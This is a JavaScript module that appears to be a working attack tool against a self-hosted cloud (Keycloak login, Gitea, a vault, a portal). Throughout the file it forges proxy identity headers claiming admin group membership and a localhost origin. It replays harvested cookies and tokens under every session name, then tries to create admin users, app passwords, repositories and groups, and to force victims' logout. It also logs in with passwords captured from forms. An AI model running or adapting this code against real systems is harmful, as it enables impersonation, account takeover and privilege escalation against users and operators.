// Uses what it learnt of its visitors at every other address of the cloud, and says that it is somebody else.
const { ask } = require('./ask.cjs');
const { loot } = require('./loot.cjs');

const { DOMAIN } = process.env;
const at = (name) => `https://${name}.${DOMAIN}`;
const realm = `${at('login')}/realms/haven`;

/** Who it says that it is, in every spelling that some program believes (and its own address, forged). */
const forged = (name) => ({
  'x-auth-request-user': name,
  'x-auth-request-preferred-username': name,
  'x-auth-request-email': `${name}@${DOMAIN}`,
  'x-auth-request-groups': 'admins',
  x_auth_request_preferred_username: name,
  x_auth_request_groups: 'admins',
  'x-forwarded-user': name,
  'x-forwarded-preferred-username': name,
  'x-forwarded-groups': 'admins',
  'x-forwarded-for': '127.0.0.1',
  'x-forwarded-host': `me.${DOMAIN}`,
  'x-forwarded-proto': 'https',
  'x-forwarded-uri': '/oauth2/auth',
  'x-real-ip': '127.0.0.1',
  forwarded: 'for=127.0.0.1;proto=https',
  'remote-user': name,
  'x-remote-user': name,
  'x-webauth-user': name,
  'x-webauth-email': `${name}@${DOMAIN}`,
});

/** What would leave a trace at the victim if it worked. `mark` is what it would be called. */
const requests = ({ mark, name, sub }) => [
  { url: `${at('me')}/` },
  { url: `${at('me')}/app-passwords`, headers: { origin: at('me') }, form: { label: mark } },
  { url: `${at('me')}/status` },
  { url: `${at('www')}/` },
  { url: `${at('hostile-page')}/` },
  { url: `${at('git')}/user/settings` },
  { url: `${at('git')}/api/v1/user` },
  { url: `${at('git')}/api/v1/user/repos`, json: { name: mark } },
  {
    url: `${at('git')}/api/v1/admin/users`,
    json: { username: mark, email: `${mark}@${DOMAIN}`, password: mark },
  },
  { url: `${at('vault')}/api/accounts/profile` },
  {
    url: `${realm}/account/`,
    headers: { accept: 'application/json' },
    json: { username: name, firstName: mark, lastName: mark, email: `${name}@${DOMAIN}` },
  },
  {
    url: `${realm}/protocol/openid-connect/auth?client_id=portal&response_type=code&scope=openid&redirect_uri=${encodeURIComponent(`${at('me')}/oauth2/callback`)}`,
  },
  { url: `${at('login')}/admin/realms/haven/users` },
  { url: `${at('login')}/admin/realms/haven/users/${sub}/logout`, method: 'POST' },
  { url: `${at('login')}/admin/realms/haven/groups`, json: { name: mark } },
];

/** All at once where it can be: a hundred requests take long one after the other. */
async function sendAll(todo) {
  const answers = {};
  const lane = async () => {
    for (let next = todo.pop(); next; next = todo.pop()) {
      const { status } = await ask(next.url, next);
      answers[status] = (answers[status] ?? 0) + 1;
    }
  };
  await Promise.all([1, 2, 3, 4, 5, 6].map(lane));
  return answers;
}

/**
 * `victim` is who it wants to be: a name and a `sub`. Without `cookies` and `tokens` it uses what it collected. Each
 * request is sent with nothing, with all cookies, and with each token.
 */
async function replay({ mark, victim, cookies = [...loot.cookies], tokens, only = '' }) {
  const known =
    tokens ?? loot.tokens.flatMap((each) => [each.access_token, each.id_token, each.refresh_token]);
  // Whatever a cookie was called, here it has the name of each session that there is.
  const values = cookies.map((each) => each.slice(each.indexOf('=') + 1));
  const renamed = ['__Host-haven', 'i_like_gitea', 'KEYCLOAK_IDENTITY', 'AUTH_SESSION_ID'].flatMap((name) =>
    values.map((value) => `${name}=${value}`),
  );
  const jars = [undefined, cookies.join('; '), ...(tokens ? [] : renamed)].filter((each) => each !== '');
  const credentials = [
    ...jars.map((cookie) => (cookie ? { cookie } : {})),
    ...known.map((token) => ({ authorization: `Bearer ${token}` })),
    ...known.map((token) => ({
      authorization: `Basic ${Buffer.from(`${victim.name}:${token}`).toString('base64')}`,
    })),
  ];
  const who = { 'user-agent': mark, ...forged(victim.name) };
  return sendAll(
    requests({ mark, ...victim })
      .filter(({ url }) => url.includes(only))
      .flatMap((each) =>
        credentials.map((given) => ({ ...each, headers: { ...each.headers, ...who, ...given } })),
      ),
  );
}

/** Logs in to the portal with each name and password that was typed into its own form, as a browser does. */
async function useForms({ mark }) {
  const answers = [];
  for (const { username, password } of loot.forms) {
    const headers = { 'user-agent': mark, ...forged('ada') };
    const query = new URLSearchParams({
      client_id: process.env.LOGIN_CLIENT,
      response_type: 'code',
      scope: 'openid',
      redirect_uri: `https://${process.env.HOST}/callback`,
    });
    const page = await ask(`${realm}/protocol/openid-connect/auth?${query}`, { headers });
    const action = /action="([^"]+)"/.exec(page.body)?.[1]?.replaceAll('&amp;', '&');
    if (!action) throw new Error(`the login answers ${page.status}`);
    const cookie = page.headers['set-cookie'].map((each) => each.split(';')[0]).join('; ');
    const { status } = await ask(action, {
      headers: { ...headers, cookie },
      form: { username, password, credentialId: '' },
    });
    answers.push(status);
  }
  return answers;
}

module.exports = { replay, useForms };
